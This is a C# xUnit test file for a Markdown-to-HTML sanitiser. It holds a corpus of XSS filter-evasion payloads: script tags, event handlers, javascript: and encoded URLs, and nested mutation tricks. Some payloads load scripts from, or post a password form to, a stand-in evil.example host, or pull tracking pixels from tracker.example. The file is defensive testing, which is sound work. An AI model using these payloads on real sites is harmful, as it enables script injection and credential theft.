using Inclusief.Web.Infrastructure.Pages;

namespace Inclusief.Tests.Features.Knowledge;

/// <summary>A corpus of hostile Markdown and HTML (OWASP XSS filter evasion style): every one must render inert.</summary>
public sealed class SafeMarkdownTests
{
    public static TheoryData<string> Hostile => new()
    {
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<img src=x onerror=alert(1)>",
        "<img src=\"javascript:alert(1)\">",
        "![a](javascript:alert(1))",
        "[klik](javascript:alert(1))",
        "[klik](JaVaScRiPt:alert(1))",
        "[klik](java&#x09;script:alert(1))",
        "[klik](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        "[klik](vbscript:msgbox(1))",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<svg onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<iframe src=\"https://evil.example\"></iframe>",
        "<object data=\"x.swf\"></object><embed src=x.swf>",
        "<form action=https://evil.example><input name=password></form>",
        "<div style=\"background:url(javascript:alert(1))\">x</div>",
        "<style>body{display:none}</style>",
        "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">",
        "<base href=\"https://evil.example/\">",
        "<details open ontoggle=alert(1)>",
        "<p onmouseover=\"alert(1)\">hover</p>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<<script>script>alert(1)<</script>/script>",
        "<a href=\"&#106;avascript:alert(1)\">x</a>",
        "[x](https://ok.example \"title\" onclick=alert(1))",
        "<img src=\"https://tracker.example/pixel.gif\">",
        "![pixel](https://tracker.example/pixel.gif)",
        "![p](//tracker.example/pixel.gif)",
        "![p](/\\tracker.example/pixel.gif)",
        "![p](\\\\tracker.example\\pixel.gif)",
        "![p](%2F%2Ftracker.example/pixel.gif)",
        "<img src=\"/%5Ctracker.example/pixel.gif\">",
        "<img src=\"/%252F/tracker.example/pixel.gif\">",
        "[x](//tracker.example/login)",
        "[x](/\\tracker.example/login)",
        "[x](\\\\tracker.example/login)",
        "<a href=\"/%2F/tracker.example/login\">x</a>",
        "<a href=\"/%5C%5Ctracker.example\">x</a>",
    };

    [Theory]
    [MemberData(nameof(Hostile))]
    public void Hostile_markdown_renders_without_anything_that_runs_or_loads_from_elsewhere(string markdown)
    {
        var html = SafeMarkdown.ToSafeHtml(markdown).ToLowerInvariant();

        Assert.DoesNotContain("<script", html, StringComparison.Ordinal);
        Assert.DoesNotContain("javascript:", html, StringComparison.Ordinal);
        Assert.DoesNotContain("vbscript:", html, StringComparison.Ordinal);
        Assert.DoesNotContain("data:text", html, StringComparison.Ordinal);
        Assert.DoesNotMatch(@"<[a-z]+[^>]*\son[a-z]+\s*=", html);
        Assert.DoesNotMatch("<(iframe|object|embed|form|input|style|meta|base|svg|math)", html);
        Assert.DoesNotContain("style=", html, StringComparison.Ordinal);
        Assert.DoesNotContain("tracker.example", html, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("![x](/Language?culture=bg)")]
    [InlineData("<img src=\"/Accounts/SignOut\">")]
    [InlineData("![x](/%4Canguage?culture=bg)")]
    public void An_image_comes_from_the_image_bank_never_from_another_page_of_the_site(string markdown)
    {
        var html = SafeMarkdown.ToSafeHtml(markdown);

        Assert.DoesNotContain("src=", html, StringComparison.Ordinal);
    }

    [Fact]
    public void Ordinary_markdown_keeps_its_meaning_and_links_leave_without_a_referrer()
    {
        var html = SafeMarkdown.ToSafeHtml("## Kop\n\n**vet** en [de VNG](https://vng.nl)\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n![kaart](/ImageBank/Image/1/480)");

        Assert.Contains("<h2>Kop</h2>", html, StringComparison.Ordinal);
        Assert.Contains("<strong>vet</strong>", html, StringComparison.Ordinal);
        Assert.Contains("href=\"https://vng.nl\"", html, StringComparison.Ordinal);
        Assert.Contains("rel=\"nofollow noopener noreferrer\"", html, StringComparison.Ordinal);
        Assert.Contains("<table>", html, StringComparison.Ordinal);
        Assert.Contains("src=\"/ImageBank/Image/1/480\"", html, StringComparison.Ordinal);
    }
}
